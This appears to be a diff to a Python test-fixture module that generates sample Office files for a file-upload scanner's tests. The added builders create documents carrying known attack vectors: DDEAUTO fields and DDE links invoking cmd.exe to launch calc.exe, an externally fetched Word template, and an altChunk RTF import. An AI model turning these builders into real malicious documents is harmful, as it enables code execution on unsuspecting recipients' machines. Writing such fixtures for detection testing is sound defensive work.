@@ -15,11 +15,16 @@ import zipfile
 import zlib
 
 __all__ = [
+    "DDE_INSTRUCTION",
     "cfb",
     "doc",
+    "doc_with_dde",
     "docm",
     "docx",
     "docx_with_activex",
+    "docx_with_alt_chunk",
+    "docx_with_external_template",
+    "docx_with_field",
     "exe",
     "gif",
     "html",
@@ -33,9 +38,12 @@ __all__ = [
     "png",
     "text",
     "xls",
+    "xls_with_dde_link",
     "xls_with_macro_sheet",
     "xls_with_macros",
+    "xls_with_workbook_link",
     "xlsx",
+    "xlsx_with_dde_link",
     "zip_bomb",
     "zip_lying_about_size",
     "zip_many_members",
@@ -342,6 +350,110 @@ def docx_with_activex() -> bytes:
     )
 
 
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def docx_with_field(instruction: str, *, simple: bool = False, pieces: int = 1) -> bytes:
+    """A Word document (python-docx) with a field: a w:fldSimple, or the instruction cut in
+    `pieces` w:instrText runs between fldChar begin, separate and end, as Word writes it."""
+    import docx as python_docx  # imported here: other apps' tests load this module too
+    from docx.oxml import parse_xml
+
+    document = python_docx.Document()
+    paragraph = document.add_paragraph("巡视组工作底稿")._p
+    if simple:
+        paragraph.append(
+            parse_xml(
+                f"<w:fldSimple {_W} w:instr={_xml_attribute(instruction)}>"
+                "<w:r><w:t>1</w:t></w:r></w:fldSimple>"
+            )
+        )
+    else:
+        size = -(-len(instruction) // pieces)
+        cut = [instruction[i : i + size] for i in range(0, len(instruction), size)]
+        runs = [f'<w:r {_W}><w:fldChar w:fldCharType="begin"/></w:r>']
+        runs += [
+            f'<w:r {_W}><w:instrText xml:space="preserve">{_xml_text(part)}</w:instrText></w:r>'
+            for part in cut
+        ]
+        runs += [
+            f'<w:r {_W}><w:fldChar w:fldCharType="separate"/></w:r>',
+            f"<w:r {_W}><w:t>1</w:t></w:r>",
+            f'<w:r {_W}><w:fldChar w:fldCharType="end"/></w:r>',
+        ]
+        for run in runs:
+            paragraph.append(parse_xml(run))
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def _xml_text(text: str) -> str:
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+
+
+def _xml_attribute(text: str) -> str:
+    return '"' + _xml_text(text).replace('"', "&quot;") + '"'
+
+
+DDE_INSTRUCTION = ' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '
+
+
+def docx_with_external_template(*, quote: str = '"') -> bytes:
+    """A Word document whose settings attach a template from the network (a relationship with
+    TargetMode External), its attributes in the given quotes."""
+    plain = docx()
+    with zipfile.ZipFile(io.BytesIO(plain)) as z:
+        settings = z.read("word/settings.xml")
+    settings = settings.replace(
+        b"<w:defaultTabStop",
+        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships" r:id="rId1"/><w:defaultTabStop',
+        1,
+    )
+    q = quote
+    rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"<Relationship Id={q}rId1{q} Type={q}http://schemas.openxmlformats.org/officeDocument/"
+        f"2006/relationships/attachedTemplate{q} Target={q}http://192.0.2.1/t.dotm{q} "
+        f"TargetMode={q}External{q}/></Relationships>"
+    ).encode()
+    return _rewrite_zip(
+        plain,
+        replace={"word/settings.xml": settings},
+        add={"word/_rels/settings.xml.rels": rels},
+    )
+
+
+def docx_with_alt_chunk() -> bytes:
+    """A Word document that imports an RTF part when it opens (w:altChunk)."""
+    plain = docx()
+    with zipfile.ZipFile(io.BytesIO(plain)) as z:
+        rels = z.read("word/_rels/document.xml.rels")
+    rels = rels.replace(
+        b"</Relationships>",
+        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/aFChunk" Target="chunk.rtf"/></Relationships>',
+    )
+    return _rewrite_zip(
+        plain,
+        replace={"word/_rels/document.xml.rels": rels},
+        add={"word/chunk.rtf": b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}"},
+    )
+
+
+def xlsx_with_dde_link() -> bytes:
+    """An Excel workbook with an external link to another program by DDE."""
+    link = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
+        b'<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
+    )
+    return _rewrite_zip(xlsx(), replace={}, add={"xl/externalLinks/externalLink1.xml": link})
+
+
 # --- old Office (a minimal compound file writer; olefile only reads) --------------------------
 
 _FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
@@ -461,12 +573,18 @@ def _biff(*records: tuple[int, bytes]) -> bytes:
     return b"".join(struct.pack("<HH", rtype, len(body)) + body for rtype, body in records)
 
 
-def _workbook_stream(*, macro_sheet: bool = False) -> bytes:
+def _workbook_stream(*, macro_sheet: bool = False, links: tuple[bytes, ...] = ()) -> bytes:
     bof = (0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
     sheets = [(0x0085, struct.pack("<IBB", 0, 0, 0) + b"\x06\x00Sheet1")]
     if macro_sheet:
         sheets.append((0x0085, struct.pack("<IBB", 0, 0, 1) + b"\x06\x00Macro1"))
-    return _biff(bof, *sheets, (0x000A, b""))
+    supbooks = [(0x01AE, link) for link in links]
+    return _biff(bof, *sheets, *supbooks, (0x000A, b""))
+
+
+def _supbook(sheets: int, path: str) -> bytes:
+    """A SUPBOOK record's body: sheet count, path length, flags (UTF-16), path."""
+    return struct.pack("<HHB", sheets, len(path), 1) + path.encode("utf-16-le")
 
 
 def xls() -> bytes:
@@ -486,14 +604,34 @@ def xls_with_macros() -> bytes:
     )
 
 
+def xls_with_dde_link() -> bytes:
+    """An old Excel workbook linked by DDE to a program: a SUPBOOK of no sheets whose path
+    names the program and the topic; beside it the usual SUPBOOK of the workbook itself."""
+    itself = struct.pack("<HH", 1, 0x0401)
+    return cfb({"Workbook": _workbook_stream(links=(itself, _supbook(0, "cmd\x03/c calc.exe")))})
+
+
+def xls_with_workbook_link() -> bytes:
+    """An old Excel workbook whose formulas read a sheet of another workbook (allowed)."""
+    path = "\x01\x01D:\\台账\\2025年.xls"
+    return cfb({"Workbook": _workbook_stream(links=(_supbook(1, path) + b"\x06\x00\x00Sheet1",))})
+
+
 def xls_with_macro_sheet() -> bytes:
     """An Excel 4.0 macro sheet (XLM): no VBA storage, only a BOUNDSHEET of type macro."""
     return cfb({"Workbook": _workbook_stream(macro_sheet=True)})
 
 
-def doc() -> bytes:
-    """A compound file with a WordDocument stream."""
-    return cfb({"WordDocument": b"\xec\xa5" + b"\x00" * 30, "1Table": b"\x00" * 16})
+def doc(text: str = "巡视组工作底稿", *, wide: bool = True) -> bytes:
+    """A compound file with a WordDocument stream whose text (after a short header) is stored
+    in UTF-16, or as single bytes (Word's "compressed" text) when wide is False."""
+    body = text.encode("utf-16-le") if wide else text.encode("cp1252")
+    return cfb({"WordDocument": b"\xec\xa5" + b"\x00" * 30 + body, "1Table": b"\x00" * 16})
+
+
+def doc_with_dde(*, wide: bool = True) -> bytes:
+    """An old Word file whose text holds a DDEAUTO field (0x13 instruction 0x14 result 0x15)."""
+    return doc("Report \x13" + DDE_INSTRUCTION + "\x141\x15 end", wide=wide)
 
 
 # --- ZIP --------------------------------------------------------------------------------------
